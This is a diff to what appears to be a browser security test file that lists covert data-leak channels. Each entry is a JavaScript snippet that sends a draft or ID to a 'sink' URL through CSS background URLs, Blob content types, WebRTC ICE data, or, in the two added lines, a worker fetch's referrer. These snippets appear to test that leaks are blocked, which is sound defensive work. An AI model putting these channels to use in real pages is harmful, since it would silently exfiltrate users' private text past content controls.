@@ -68,6 +68,8 @@ const NOT_READ: [label: string, code: string][] = [
   ["a Blob body's type (Content-Type)", `await fetch(RAW + '/blob-type', { method: 'POST', body: new Blob(['hello'], { type: 'text/plain;x=' + ID }) });`],
   ['keyframes given as a Set', `const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px'; document.body.append(d); d.animate(new Set([{ backgroundImage: 'url(' + sink('kf') + '?c=' + encodeURIComponent(draft) + ')' }, { backgroundImage: 'none' }]), 3000);`],
   ["a custom property's string used by image-set(var())", `const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px'; document.body.append(d); d.style.setProperty('--s', JSON.stringify(sink('var') + '?c=' + encodeURIComponent(draft))); d.style.setProperty('background-image', 'image-set(var(--s) 1x)');`],
+  ["a worker's fetch referrer (the Referer header)", `return inWorker("await fetch(sink('w-referrer'), { referrer: sink('w-referrer') + '?c=' + ID });");`],
+  ["a worker's Request with a referrer, fetched", `return inWorker("await fetch(new Request(sink('w-req-referrer'), { referrer: sink('w-req-referrer') + '?c=' + ID }));");`],
   [
     'WebRTC: ICE credentials in a remote description the page writes (STUN checks)',
     `const pc = new RTCPeerConnection(); pc.createDataChannel('chat'); await pc.setLocalDescription(await pc.createOffer());
